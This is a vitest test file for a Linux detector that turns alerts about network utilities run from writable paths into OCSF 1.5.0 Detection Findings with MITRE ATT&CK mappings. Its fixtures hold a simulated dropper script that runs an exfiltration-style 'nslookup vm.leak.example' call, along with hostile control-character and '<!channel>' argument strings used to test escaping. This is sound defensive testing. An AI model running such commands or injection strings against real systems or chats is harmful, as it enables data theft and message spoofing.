import { describe, expect, it } from "vitest";
import type { Alert } from "../../lib/alerts/alert.js";
import {
  ATTACK_TACTIC_UIDS,
  OCSF_SCHEMA_VERSION,
  type OcsfProcess,
  toOcsfDetectionFinding,
} from "../../lib/alerts/ocsf-finding.js";
import { EXEC_FLAG_TECHNIQUE, UTILITY_CATEGORIES } from "../../lib/rule/utilities.js";
import packageJson from "../../package.json" with { type: "json" };
import { DETECTION_FINDING_REQUIRED, OCSF_VERSION, validateDetectionFinding } from "../helpers/ocsf.js";
import { replayText } from "../helpers/replay-text.js";
import { CAPTURED_AUDITD, readSample } from "../helpers/samples.js";

async function capturedAlerts(): Promise<Alert[]> {
  const { alerts } = await replayText(readSample(CAPTURED_AUDITD));
  expect(alerts).toHaveLength(2);
  return alerts;
}

/** parent_process levels, the process itself first. */
function lineage(process: OcsfProcess | undefined): OcsfProcess[] {
  const out: OcsfProcess[] = [];
  for (let p = process; p !== undefined; p = p.parent_process) out.push(p);
  return out;
}

describe("OCSF Detection Finding", () => {
  it("both findings of the captured sample pass the OCSF 1.5.0 required-field check", async () => {
    for (const alert of await capturedAlerts()) {
      const finding = toOcsfDetectionFinding(alert);
      expect(validateDetectionFinding(finding)).toEqual([]);
      // What a consumer receives is the JSON: it must survive the round trip unchanged.
      expect(validateDetectionFinding(JSON.parse(JSON.stringify(finding)))).toEqual([]);
      expect(JSON.parse(JSON.stringify(finding))).toEqual(finding);
    }
  });

  it("has the class, activity, schema version and product of a 2004 Create", async () => {
    const [alert] = await capturedAlerts();
    const finding = toOcsfDetectionFinding(alert!);
    expect(finding).toMatchObject({
      class_uid: 2004,
      category_uid: 2,
      activity_id: 1,
      type_uid: 200401,
      status_id: 1,
      severity_id: 4,
      severity: "High",
      time: Date.parse("2026-11-27T23:27:18.628Z"),
      message: "[HIGH] nslookup run from /tmp/dropper.sh on vm",
    });
    expect(OCSF_SCHEMA_VERSION).toBe(OCSF_VERSION);
    expect(finding.metadata).toMatchObject({
      version: "1.5.0",
      uid: alert!.id,
      product: {
        name: "netutil-detector",
        version: packageJson.version,
        feature: { uid: "netutil-writable-exec", name: alert!.rule.name, version: "1.0.0" },
      },
    });
    expect(finding.finding_info).toMatchObject({
      uid: alert!.id,
      title: finding.message,
      types: ["network-utility:dns"],
      analytic: { uid: "netutil-writable-exec", type_id: 1, version: "1.0.0" },
      first_seen_time: finding.time,
      last_seen_time: finding.time,
      created_time: finding.time,
      data_sources: ["auditd"],
      related_events: [{ uid: alert!.source.eventId }],
    });
    expect(finding.device).toEqual({ hostname: "vm", type_id: 0, type: "Unknown" });
    expect(finding.actor).toEqual({ user: { uid: "0", name: "root" } });
    expect(finding.remediation.desc.split("\n")[0]).toMatch(/^1\. Check who ran the utility/);
  });

  it("maps nslookup to T1071 / T1071.004 (DNS) under Command and Control TA0011", async () => {
    const [alert] = await capturedAlerts();
    const finding = toOcsfDetectionFinding(alert!);
    // OCSF 1.5 attack object: the sub-technique has its own attribute, the technique is its parent.
    expect(finding.attacks[0]).toEqual({
      tactic: { name: "Command and Control", uid: "TA0011" },
      technique: {
        uid: "T1071",
        name: "Application Layer Protocol",
        src_url: "https://attack.mitre.org/techniques/T1071/",
      },
      sub_technique: {
        uid: "T1071.004",
        name: "DNS",
        src_url: "https://attack.mitre.org/techniques/T1071/004/",
      },
      version: "17",
    });
    expect(finding.finding_info.attacks).toEqual(finding.attacks);
  });

  it("a technique without a sub-technique stays whole (curl: T1105)", async () => {
    const [, curl] = await capturedAlerts();
    expect(toOcsfDetectionFinding(curl!).attacks).toEqual([
      {
        tactic: { name: "Command and Control", uid: "TA0011" },
        technique: {
          uid: "T1105",
          name: "Ingress Tool Transfer",
          src_url: "https://attack.mitre.org/techniques/T1105/",
        },
        version: "17",
      },
    ]);
  });

  it("knows the tactic id of every tactic the rule can report", () => {
    const tactics = [
      ...Object.values(UTILITY_CATEGORIES).flatMap((c) => c.attack.map((t) => t.tactic)),
      EXEC_FLAG_TECHNIQUE.tactic,
    ];
    for (const tactic of tactics) expect(ATTACK_TACTIC_UIDS[tactic], tactic).toMatch(/^TA\d{4}$/);
  });

  it("carries the utility process, its ancestry as nested parent_process and the file as evidence", async () => {
    const [alert] = await capturedAlerts();
    const finding = toOcsfDetectionFinding(alert!);
    const process = finding.evidences.find((e) => e.process !== undefined)?.process;
    const chain = lineage(process);
    expect(chain[0]).toMatchObject({
      pid: 14828,
      name: "nslookup",
      path: "/usr/bin/nslookup",
      cmd_line: "nslookup vm.leak.example 192.0.2.53",
      file: { name: "nslookup", path: "/usr/bin/nslookup", type_id: 1 },
      user: { uid: "0", name: "root" },
      working_directory: "/opt/sim",
    });
    expect(chain[1]).toMatchObject({
      pid: 14826,
      path: "/usr/bin/dash",
      cmd_line: "/bin/sh /tmp/dropper.sh",
    });
    expect(chain.map((p) => p.pid)).toEqual([14828, ...alert!.ancestors.map((a) => a.pid)]);
    expect(process?.ancestry?.map((a) => a.pid)).toEqual(alert!.ancestors.map((a) => a.pid));
    // The script the parent interpreter ran has no process attribute in OCSF: it is kept in unmapped.
    expect(finding.unmapped.ancestors[0]).toMatchObject({ pid: 14826, script: "/tmp/dropper.sh" });
    expect(finding.evidences).toContainEqual({
      name: "file in a writable location",
      file: { name: "dropper.sh", path: "/tmp/dropper.sh", type_id: 1, type: "Regular File" },
    });
    expect(finding.unmapped.location).toMatchObject({
      path: "/tmp/dropper.sh",
      kind: "script",
      depth: 1,
      tier: "temp",
    });
    expect(finding.unmapped.dedup.key).toBe(alert!.dedup.key);
    expect(finding.count).toBe(1);
  });

  it("keeps earlier images of an ancestor (it exec'd since) in unmapped, quoted like the text output", async () => {
    const [alert] = await capturedAlerts();
    const grandparent = toOcsfDetectionFinding(alert!).unmapped.ancestors[1];
    expect(grandparent?.exec_chain[0]?.cmd_line).toBe(
      `/bin/bash -c '[ "$1" = ns ] && /sbin/ip link set lo up; exec /bin/bash "$0"' /opt/sim/run.sh ns`,
    );
  });

  it("puts a container, with its image, on the process evidence", async () => {
    const [alert] = await capturedAlerts();
    const inContainer: Alert = { ...alert!, container: { id: "c0ffee", image: "registry.example/web:1.2" } };
    const finding = toOcsfDetectionFinding(inContainer);
    expect(validateDetectionFinding(finding)).toEqual([]);
    expect(finding.evidences[0]?.container).toEqual({
      uid: "c0ffee",
      image: { uid: "registry.example/web:1.2", name: "registry.example/web:1.2" },
    });
    const noImage = toOcsfDetectionFinding({ ...alert!, container: { id: "c0ffee", image: null } });
    expect(noImage.evidences[0]?.container).toEqual({ uid: "c0ffee" });
  });

  it("maps every severity to its OCSF severity_id", async () => {
    const [alert] = await capturedAlerts();
    const ids = (["low", "medium", "high", "critical"] as const).map((severity) => {
      const f = toOcsfDetectionFinding({ ...alert!, severity });
      return [f.severity_id, f.severity];
    });
    expect(ids).toEqual([
      [2, "Low"],
      [3, "Medium"],
      [4, "High"],
      [5, "Critical"],
    ]);
  });

  it("a deleted memfd image is a file of unknown type, marked deleted", async () => {
    const [alert] = await capturedAlerts();
    const path = "/memfd:x (deleted)";
    const fileless: Alert = {
      ...alert!,
      location: { ...alert!.location, path, tier: "fileless" },
      matches: [{ path, kind: "ancestor", depth: 1, tier: "fileless" }],
    };
    const finding = toOcsfDetectionFinding(fileless);
    expect(validateDetectionFinding(finding)).toEqual([]);
    // The kernel names a memfd `memfd:NAME`: that is the file's name.
    expect(finding.evidences[1]?.file).toEqual({
      name: "memfd:x",
      path,
      type_id: 0,
      type: "Unknown",
      is_deleted: true,
    });
  });

  it("keeps hostile command lines exact in cmd_line and the title on one escaped line", async () => {
    const [alert] = await capturedAlerts();
    const hostile = ["nslookup", "a\nb\u202e<!channel>", "x y"];
    const finding = toOcsfDetectionFinding({
      ...alert!,
      process: { ...alert!.process, args: hostile },
      location: { ...alert!.location, path: "/tmp/\u001b[2Jx\n.sh" },
    });
    expect(finding.evidences[0]?.process?.cmd_line).toBe("nslookup 'a\nb\u202e<!channel>' 'x y'");
    expect(finding.message).not.toMatch(/[\n\u001b]/);
    expect(finding.message).toBe("[HIGH] nslookup run from /tmp/\\x1b[2Jx\\n.sh on vm");
    expect(validateDetectionFinding(finding)).toEqual([]);
  });

  it("is a pure function of the alert: the same alert gives the same finding", async () => {
    const [alert] = await capturedAlerts();
    expect(toOcsfDetectionFinding(alert!)).toEqual(toOcsfDetectionFinding(structuredClone(alert!)));
  });
});

describe("validateDetectionFinding", () => {
  async function valid(): Promise<Record<string, unknown>> {
    const [alert] = await capturedAlerts();
    return JSON.parse(JSON.stringify(toOcsfDetectionFinding(alert!)));
  }

  it("reports each required attribute of the class when it is missing", async () => {
    const finding = await valid();
    for (const key of DETECTION_FINDING_REQUIRED) {
      const { [key]: _, ...without } = finding;
      expect(validateDetectionFinding(without), key).toContain(`${key}: required attribute missing`);
    }
  });

  it("reports required attributes of nested objects and broken evidences", async () => {
    const f = await valid();
    const info = f["finding_info"] as Record<string, unknown>;
    const metadata = f["metadata"] as Record<string, unknown>;
    const evidences = f["evidences"] as Record<string, unknown>[];
    delete info["uid"];
    delete metadata["version"];
    delete (metadata["product"] as Record<string, unknown>)["name"];
    delete ((evidences[1] as Record<string, unknown>)["file"] as Record<string, unknown>)["type_id"];
    evidences.push({ name: "nothing" });
    expect(validateDetectionFinding(f)).toEqual(
      expect.arrayContaining([
        "finding_info.uid: required attribute of finding_info missing",
        "metadata.version: required attribute of metadata missing",
        "metadata.product.name: required attribute of product missing",
        "evidences[1].file.type_id: required attribute of file missing",
        expect.stringMatching(/^evidences\[2\]: needs at least one of actor, /),
      ]),
    );
  });

  it("reports wrong class values and types: seconds for milliseconds, strings and floats for integers", async () => {
    const f = await valid();
    f["class_uid"] = 2001;
    f["time"] = Math.floor((f["time"] as number) / 1000);
    f["severity_id"] = "4";
    (f["finding_info"] as Record<string, unknown>)["created_time"] = "2026-11-27T23:27:18.628Z";
    (f["device"] as Record<string, unknown>)["type_id"] = 0.5;
    expect(validateDetectionFinding(f)).toEqual(
      expect.arrayContaining([
        "class_uid: not 2004",
        "type_uid: not class_uid * 100 + activity_id",
        "time: looks like epoch seconds, not milliseconds",
        "severity_id: not an integer",
        "finding_info.created_time: not an epoch-millisecond integer",
        "device.type_id: not an integer",
      ]),
    );
    expect(validateDetectionFinding("{}")).toEqual(["finding: not a JSON object"]);
  });
});
